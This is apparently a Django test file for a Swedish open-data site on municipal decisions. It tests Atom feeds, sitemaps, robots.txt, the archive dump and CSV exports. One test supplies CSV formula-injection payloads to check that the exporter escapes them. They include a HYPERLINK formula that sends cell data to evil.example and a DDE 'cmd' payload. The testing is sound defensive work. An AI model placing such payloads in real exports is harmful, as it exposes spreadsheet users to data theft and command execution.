"""Open data: feeds of every page that lists paragraphs, the sitemap, robots.txt,
and the whole archive as one download."""

import csv
import datetime
import gzip
import hashlib
import io
import json
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path
from unittest import mock

import lxml.html
from django.conf import settings
from django.core.management import call_command
from django.test import TestCase, override_settings
from lxml import etree

from decisions.download import (
    ARCHIVE_NAME,
    CHANGES_DAYS,
    CHANGES_SCHEMA_NAME,
    MANIFEST_NAME,
    SCHEMA_NAME,
)
from decisions.exports import FORMULA_STARTS
from decisions.models import Paragraf
from decisions.services.dump import write_archive
from decisions.services.rename import namnd_rename
from decisions.sitemaps import ParagrafSitemap
from tests import factories
from tests.factories import SEEDS, SJOBACKA

ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"


def atom_entries(test: TestCase, url: str) -> list[ET.Element]:
    """Fetch a feed, check what Atom requires of it, return its entries."""
    response = test.client.get(url)
    test.assertEqual(response.status_code, 200, url)
    test.assertTrue(response["Content-Type"].startswith("application/atom+xml"))
    feed = ET.fromstring(response.content)
    test.assertEqual(feed.tag, f"{ATOM}feed")
    # What RFC 4287 requires: id, title, updated everywhere; an author and a
    # self link for the feed; a link for each entry.
    test.assertTrue(feed.findtext(f"{ATOM}author/{ATOM}name"), url)
    test.assertTrue(feed.find(f"{ATOM}link[@rel='self']") is not None, url)
    for element in (feed, *feed.findall(f"{ATOM}entry")):
        for required in ("id", "title", "updated"):
            test.assertTrue(element.findtext(f"{ATOM}{required}"), (url, required))
    for entry in feed.findall(f"{ATOM}entry"):
        test.assertTrue(entry.find(f"{ATOM}link").get("href"), url)
    return feed.findall(f"{ATOM}entry")


def entry_ids(entries: list[ET.Element]) -> list[str]:
    return [entry.findtext(f"{ATOM}id") for entry in entries]


class FeedTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("ingest", *map(str, SEEDS), stdout=None, stderr=None)
        cls.kultur = Paragraf.objects.get(number="7")
        cls.social = Paragraf.objects.get(number="13")

    def permalink(self, paragraf: Paragraf) -> str:
        return "http://testserver" + paragraf.get_absolute_url()

    def test_every_page_that_lists_paragraphs_has_a_feed_of_the_seeds(self):
        kultur, social = self.permalink(self.kultur), self.permalink(self.social)
        for url, expected in [
            ("/stockholms-stad/feed/", {kultur, social}),
            ("/stockholms-stad/kulturnamnden/feed/", {kultur}),
            ("/stockholms-stad/socialnamnden/feed/", {social}),
            ("/stockholms-stad/arende-feed/1.1/2152/2016/", {kultur}),
            ("/stockholms-stad/parti/L/feed/", {kultur, social}),
            ("/sok/feed/?q=smart+stad", {kultur, social}),
        ]:
            with self.subTest(url=url):
                self.assertEqual(set(entry_ids(atom_entries(self, url))), expected)

    def test_each_page_links_its_feed(self):
        for page, feed in [
            ("/stockholms-stad/", "/stockholms-stad/feed/"),
            ("/stockholms-stad/kulturnamnden/", "/stockholms-stad/kulturnamnden/feed/"),
            (
                "/stockholms-stad/arende/1.1/2152/2016/",
                "/stockholms-stad/arende-feed/1.1/2152/2016/",
            ),
            ("/stockholms-stad/parti/L/", "/stockholms-stad/parti/L/feed/"),
        ]:
            with self.subTest(page=page):
                response = self.client.get(page)
                self.assertContains(
                    response,
                    f'<link rel="alternate" type="application/atom+xml" '
                    f'title="Bevaka som flöde (Atom)" href="{feed}">',
                )

    def test_an_unknown_owner_is_404_and_a_renamed_board_redirects(self):
        self.assertEqual(
            self.client.get("/stockholms-stad/parti/XX/feed/").status_code, 404
        )
        self.assertEqual(self.client.get("/ingen-kommun/feed/").status_code, 404)
        namnd = self.kultur.meeting.namnd
        namnd_rename(
            namnd=namnd,
            new_name=namnd.name,
            slug="kulturen",
            since=datetime.date.today(),
            user=None,
        )
        response = self.client.get("/stockholms-stad/kulturnamnden/feed/")
        self.assertEqual(response.status_code, 301)
        self.assertEqual(response["Location"], "/stockholms-stad/kulturen/feed/")

    def test_pages_carry_open_graph_tags_for_sharing(self):
        url = self.kultur.get_absolute_url()
        response = self.client.get("/en" + url)
        self.assertContains(
            response, '<meta property="og:title" content="§ 7 Strategi för Stockholm'
        )
        self.assertContains(
            response, f'<meta property="og:url" content="http://testserver{url}">'
        )
        self.assertContains(response, '<meta property="og:locale" content="en_GB">')
        self.assertContains(
            response,
            f'<meta property="og:description" content="{self.kultur.decision[:20]}',
        )

    def test_each_entry_names_its_board_and_municipality(self):
        entries = atom_entries(self, "/stockholms-stad/feed/")
        titles = {entry.findtext(f"{ATOM}title") for entry in entries}
        kultur = self.kultur
        self.assertIn(
            f"§ 7 {kultur.title} – Kulturnämnden, Stockholms stad, "
            f"{kultur.meeting.date_label}",
            titles,
        )

    def test_a_search_feed_is_titled_with_its_words_and_filters(self):
        namnd = self.kultur.meeting.namnd
        for url, title in [
            (
                f"/sok/feed/?q=smart+stad&namnd={namnd.pk}&parti=L",
                "Öppna beslut: smart stad – Kulturnämnden (Stockholms stad), "
                "reservation av Liberalerna",
            ),
            ("/sok/feed/?parti=L", "Öppna beslut: reservation av Liberalerna"),
            ("/sok/feed/?q=budget", "Öppna beslut: budget"),
            ("/sok/feed/", "Öppna beslut: nya paragrafer"),
        ]:
            with self.subTest(url=url):
                response = self.client.get(url)
                feed = ET.fromstring(response.content)
                self.assertEqual(feed.findtext(f"{ATOM}title"), title)

    def test_every_feed_names_its_stylesheet_for_browsers(self):
        for url in [
            "/stockholms-stad/feed/",
            "/stockholms-stad/kulturnamnden/feed/",
            "/stockholms-stad/arende-feed/1.1/2152/2016/",
            "/stockholms-stad/parti/L/feed/",
            "/sok/feed/?q=smart+stad",
            "/en/stockholms-stad/feed/",
        ]:
            with self.subTest(url=url):
                content = self.client.get(url).content
                self.assertTrue(
                    content.startswith(
                        b'<?xml version="1.0" encoding="utf-8"?>\n<?xml-stylesheet '
                    )
                )
                # Before the feed's element, as a processing instruction must be.
                pi = etree.fromstring(content).getprevious()
                self.assertEqual(pi.target, "xml-stylesheet")
                self.assertEqual(pi.get("href"), "/static/feed.xsl")
                self.assertEqual(pi.get("type"), "text/xsl")

    def test_a_browser_gets_the_feeds_page_and_a_feed_reader_the_feed(self):
        url = "/stockholms-stad/feed/"
        browser = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        reader = "application/atom+xml, application/rss+xml;q=0.9, */*;q=0.1"
        for _ in range(2):  # rendered, then kept (decisions.caching)
            page = self.client.get(url, headers={"Accept": browser})
            feed = self.client.get(url, headers={"Accept": reader})
            anything = self.client.get(url, headers={"Accept": "*/*"})
            self.assertEqual(page["Content-Type"], "text/html; charset=utf-8")
            self.assertEqual(
                feed["Content-Type"], "application/atom+xml; charset=utf-8"
            )
            self.assertEqual(anything["Content-Type"], feed["Content-Type"])
            self.assertEqual(anything.content, feed.content)
            for response in (page, feed):
                self.assertIn("Accept", response["Vary"])
            # The page is the feed's twin: its title, its address to copy,
            # and the same entries, linked in the same order.
            atom = ET.fromstring(feed.content)
            html = lxml.html.fromstring(page.content)
            self.assertEqual(html.findtext(".//h1"), atom.findtext(f"{ATOM}title"))
            self.assertEqual(html.findtext(".//code"), "http://testserver" + url)
            links = html.xpath("//ol[@class='paragraf-list']/li//h3/a")
            self.assertEqual(
                [(a.get("href"), a.text) for a in links],
                [
                    (
                        entry.find(f"{ATOM}link").get("href"),
                        entry.findtext(f"{ATOM}title"),
                    )
                    for entry in atom.findall(f"{ATOM}entry")
                ],
            )
            self.assertTrue(links)

    def test_the_stylesheet_makes_a_page_of_the_feed(self):
        xslt = etree.XSLT(etree.parse(str(settings.BASE_DIR / "static" / "feed.xsl")))
        for url, lang, what in [
            ("/stockholms-stad/kulturnamnden/feed/", "sv", "Det här är ett flöde"),
            ("/en/stockholms-stad/kulturnamnden/feed/", "en", "This is a feed"),
        ]:
            with self.subTest(url=url):
                feed = etree.fromstring(self.client.get(url).content)
                page = etree.tostring(xslt(feed), method="html", encoding="unicode")
                html = lxml.html.fromstring(page)
                self.assertEqual(html.get("lang"), lang)
                self.assertEqual(html.findtext(".//h1"), feed.findtext(f"{ATOM}title"))
                self.assertIn(what, page)
                # The address to copy into a feed reader.
                self.assertEqual(html.findtext(".//code"), "http://testserver" + url)
                links = html.xpath("//ol[@class='paragraf-list']/li//a")
                self.assertEqual(
                    [(a.get("href"), a.text) for a in links],
                    [
                        (
                            entry.find(f"{ATOM}link").get("href"),
                            entry.findtext(f"{ATOM}title"),
                        )
                        for entry in feed.findall(f"{ATOM}entry")
                    ],
                )
                self.assertTrue(links)
                self.assertEqual(
                    html.xpath("//link[@rel='stylesheet']/@href"),
                    ["/static/css/site.css"],
                )
                # Nothing the Content-Security-Policy refuses: no script, no
                # inline style.
                self.assertFalse(html.xpath("//script | //style | //*[@style]"))

    def test_confidential_paragraphs_are_in_no_feed(self):
        Paragraf.objects.filter(pk=self.social.pk).update(confidential=True)
        ids = entry_ids(atom_entries(self, "/stockholms-stad/feed/"))
        self.assertEqual(ids, [self.permalink(self.kultur)])


class CorrectionTests(TestCase):
    def test_a_corrected_paragraph_comes_back_as_updated(self):
        call_command("ingest", *map(str, SJOBACKA), stdout=None, stderr=None)
        paragraf = Paragraf.objects.filter(decision__gt="").first()
        Paragraf.objects.filter(pk=paragraf.pk).update(decision="Ett äldre beslut.")
        call_command("ingest", "--reparse", stdout=None, stderr=None)
        corrected = Paragraf.objects.exclude(corrected_at=None)
        self.assertEqual(list(corrected), [paragraf])
        namnd = paragraf.meeting.namnd
        entries = atom_entries(self, namnd.get_absolute_url() + "feed/")
        updated = {
            entry.findtext(f"{ATOM}id"): entry.findtext(f"{ATOM}updated")
            for entry in entries
        }
        corrected_at = corrected.get().corrected_at
        self.assertEqual(
            updated["http://testserver" + paragraf.get_absolute_url()],
            corrected_at.isoformat(),
        )
        # Reparsing again changes nothing, so marks nothing.
        call_command("ingest", "--reparse", stdout=None, stderr=None)
        self.assertEqual(
            Paragraf.objects.exclude(corrected_at=None).get().corrected_at,
            corrected_at,
        )


class SitemapTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("ingest", *map(str, SJOBACKA), stdout=None, stderr=None)

    def locations(self, url: str, tag: str) -> list[str]:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        return [
            loc.text for loc in ET.fromstring(response.content).iter(f"{SITEMAP}loc")
        ]

    def test_the_sitemap_lists_every_published_paragraph_over_id_pages(self):
        with mock.patch.object(ParagrafSitemap, "limit", 10):
            pages = self.locations("/sitemap.xml", "sitemap")
            paragraf_pages = [p for p in pages if "sitemap-paragrafer.xml" in p]
            self.assertGreater(len(paragraf_pages), 1)
            listed = [
                loc
                for page in paragraf_pages
                for loc in self.locations(page.removeprefix("http://testserver"), "url")
            ]
            past_the_end = f"/sitemap-paragrafer.xml?p={len(paragraf_pages) + 1}"
            self.assertEqual(self.client.get(past_the_end).status_code, 404)
        # A confidential paragraph's page (its number, a neutral title, a
        # notice) has nothing to index.
        expected = [
            "http://testserver" + p.get_absolute_url()
            for p in Paragraf.objects.filter(confidential=False).order_by("pk")
        ]
        self.assertLess(len(expected), Paragraf.objects.count())
        self.assertEqual(listed, expected)

    def test_the_other_sitemaps_list_boards_meetings_and_cases(self):
        places = self.locations("/sitemap-platser.xml", "url")
        self.assertIn("http://testserver/sjobacka-kommun/kommunstyrelsen/", places)
        self.assertIn("http://testserver/oppna-data/", places)
        meetings = self.locations("/sitemap-sammantraden.xml", "url")
        self.assertIn(
            "http://testserver/sjobacka-kommun/kommunfullmaktige/2024-11-25/", meetings
        )
        cases = self.locations("/sitemap-arenden.xml", "url")
        self.assertIn("http://testserver/sjobacka-kommun/arende/KS%202024/112/", cases)

    def test_robots_txt_names_the_sitemap_and_keeps_crawlers_off_search(self):
        response = self.client.get("/robots.txt")
        self.assertEqual(response["Content-Type"], "text/plain")
        text = response.content.decode()
        self.assertIn("Sitemap: http://testserver/sitemap.xml\n", text)
        self.assertIn("Disallow: /sok/\n", text)
        self.assertIn("Disallow: /admin/\n", text)


class ArchiveDumpTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("ingest", *map(str, SJOBACKA), stdout=None, stderr=None)
        cls.secret = Paragraf.objects.filter(confidential=True).first()

    def setUp(self):
        self.folder = Path(self.enterContext(tempfile.TemporaryDirectory()))

    def dump(self) -> list[dict]:
        write_archive(self.folder, "https://oppnabeslut.example")
        with gzip.open(self.folder / ARCHIVE_NAME, "rt", encoding="utf-8") as lines:
            return [json.loads(line) for line in lines]

    def test_the_dump_holds_every_published_paragraph_and_nothing_confidential(self):
        self.assertIsNotNone(self.secret, "the samples hold a confidential paragraph")
        records = self.dump()
        published = Paragraf.objects.filter(confidential=False).order_by("pk")
        self.assertEqual(
            [r["id"] for r in records],
            ["https://oppnabeslut.example" + p.get_absolute_url() for p in published],
        )
        self.assertNotIn(self.secret.title, json.dumps(records, ensure_ascii=False))
        reserved = next(r for r in records if r["reservations"])
        member = reserved["reservations"][0]["members"][0]
        self.assertTrue(member["id"].startswith("https://oppnabeslut.example/"))
        self.assertEqual(reserved["municipality"]["name"], "Sjöbacka kommun")
        # Statements, proposals and votes come with their members, as printed.
        for kind, people in [("proposals", "members"), ("votes", "casts")]:
            row = next(r[kind][0] for r in records if r[kind])
            self.assertTrue(row[people][0]["name"], kind)
        vote = next(r["votes"][0] for r in records if r["votes"])
        self.assertLessEqual(
            {cast["choice"] for cast in vote["casts"]}, {"ja", "nej", "avstar"}
        )

    def test_the_manifest_counts_and_checks_the_file(self):
        records = self.dump()
        manifest = json.loads((self.folder / MANIFEST_NAME).read_text())
        data = (self.folder / ARCHIVE_NAME).read_bytes()
        self.assertEqual(manifest["paragraphs"], len(records))
        self.assertEqual(manifest["bytes"], len(data))
        self.assertEqual(manifest["sha256"], hashlib.sha256(data).hexdigest())
        self.assertIn("upphovsrättslagen 9 §", manifest["terms"]["sv"])
        # The same archive gives the same bytes: no timestamp inside the gzip.
        self.dump()
        self.assertEqual((self.folder / ARCHIVE_NAME).read_bytes(), data)
        # Beside it the daily changes files, each as the manifest says, and
        # each municipality as Popolo data (tests/test_popolo.py).
        changes = manifest["changes"]
        self.assertEqual(len(changes), CHANGES_DAYS)
        for entry in changes:
            written = (self.folder / entry["file"]).read_bytes()
            self.assertEqual(entry["bytes"], len(written))
            self.assertEqual(entry["sha256"], hashlib.sha256(written).hexdigest())
        popolo = [entry["file"] for entry in manifest["popolo"]]
        self.assertEqual(popolo, ["popolo-sjobacka-kommun.json"])
        self.assertEqual(
            sorted(p.name for p in self.folder.iterdir()),
            sorted(
                [
                    ARCHIVE_NAME,
                    MANIFEST_NAME,
                    SCHEMA_NAME,
                    CHANGES_SCHEMA_NAME,
                    *(c["file"] for c in changes),
                    *popolo,
                ]
            ),
        )

    def test_the_download_is_served_with_its_date(self):
        with override_settings(OPEN_DATA_DIR=self.folder):
            self.assertEqual(
                self.client.get("/oppna-data/" + ARCHIVE_NAME).status_code, 404
            )
            self.assertContains(self.client.get("/oppna-data/"), "inte skapad än")
            call_command("dump_archive", output=self.folder, stdout=None)
            response = self.client.get("/oppna-data/" + ARCHIVE_NAME)
            self.assertEqual(response["Content-Type"], "application/gzip")
            body = b"".join(response.streaming_content)
            self.assertEqual(body, (self.folder / ARCHIVE_NAME).read_bytes())
            again = self.client.get(
                "/oppna-data/" + ARCHIVE_NAME,
                headers={"if-modified-since": response["Last-Modified"]},
            )
            self.assertEqual(again.status_code, 304)
            page = self.client.get("/oppna-data/")
            self.assertContains(page, 'href="/oppna-data/oppna-beslut.jsonl.gz"')
            self.assertEqual(self.client.get("/oppna-data/..").status_code, 404)
            self.assertEqual(
                self.client.get("/oppna-data/settings.py").status_code, 404
            )


class CsvTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("ingest", *map(str, SJOBACKA), stdout=None, stderr=None)
        call_command("ingest", *map(str, SEEDS), stdout=None, stderr=None)

    def rows(self, url: str) -> list[list[str]]:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertTrue(response["Content-Disposition"].startswith("attachment;"))
        body = b"".join(response.streaming_content)
        self.assertTrue(body.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM")
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))

    def test_a_search_as_csv_has_the_columns_and_swedish_characters(self):
        header, *rows = self.rows("/sok/?q=smart+stad&format=csv")
        self.assertEqual(header[:3], ["adress", "kommun", "nämnd"])
        self.assertEqual(len(header), 10)
        by_namnd = {row[2]: row for row in rows}
        self.assertEqual(set(by_namnd), {"Kulturnämnden", "Socialnämnden"})
        kultur = by_namnd["Kulturnämnden"]
        self.assertEqual(kultur[1], "Stockholms stad")
        self.assertTrue(kultur[0].startswith("http://testserver/stockholms-stad/"))
        self.assertEqual(kultur[6], "1.1/2152/2016")
        self.assertEqual(kultur[8:], ["ja", "L"])
        self.assertIn("Strategi för Stockholm", kultur[5])

    def test_every_list_page_is_also_csv_and_leaves_out_the_confidential(self):
        secret = Paragraf.objects.get(confidential=True)
        namnd = secret.meeting.namnd
        for url in [
            namnd.municipality.get_absolute_url(),
            namnd.get_absolute_url(),
            secret.meeting.get_absolute_url(),
        ]:
            with self.subTest(url=url):
                page = self.client.get(url)
                self.assertContains(page, 'href="?format=csv" type="text/csv"')
                rows = self.rows(url + "?format=csv")[1:]
                addresses = {row[0] for row in rows}
                self.assertTrue(rows)
                self.assertNotIn(
                    "http://testserver" + secret.get_absolute_url(), addresses
                )
        meeting = secret.meeting
        listed = [
            row[4] for row in self.rows(meeting.get_absolute_url() + "?format=csv")[1:]
        ]
        self.assertEqual(
            listed,
            [
                p.number
                for p in meeting.paragrafer.filter(confidential=False).order_by(
                    "position"
                )
            ],
        )
        self.assertEqual(len(self.rows("/stockholms-stad/parti/L/?format=csv")), 3)
        self.assertEqual(
            len(self.rows("/stockholms-stad/arende/1.1/2152/2016/?format=csv")), 2
        )


class CsvFormulaTests(TestCase):
    """A cell that a spreadsheet would run as a formula is written as text."""

    def test_a_title_that_looks_like_a_formula_is_exported_as_text(self):
        meeting = factories.make_meeting()
        hostile = [
            '=HYPERLINK("https://evil.example/?x="&A1;"Klicka")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ]
        for title in hostile:
            factories.make_paragraf(meeting=meeting, title=title, decision=title)
        factories.make_paragraf(meeting=meeting, title="Budget 2025")
        response = self.client.get(meeting.get_absolute_url() + "?format=csv")
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        # Every field quoted, as OWASP advises.
        self.assertTrue(body.startswith('"adress";"kommun";'))
        header, *rows = csv.reader(io.StringIO(body, newline=""), delimiter=";")
        title, decision = header.index("rubrik"), header.index("beslut")
        titles = {row[title] for row in rows}
        self.assertEqual(titles, {f"'{t}" for t in hostile} | {"Budget 2025"})
        for row in rows:
            for value in row:
                self.assertFalse(value.startswith(FORMULA_STARTS), value)
            if row[title] != "Budget 2025":
                self.assertEqual(row[decision], row[title])
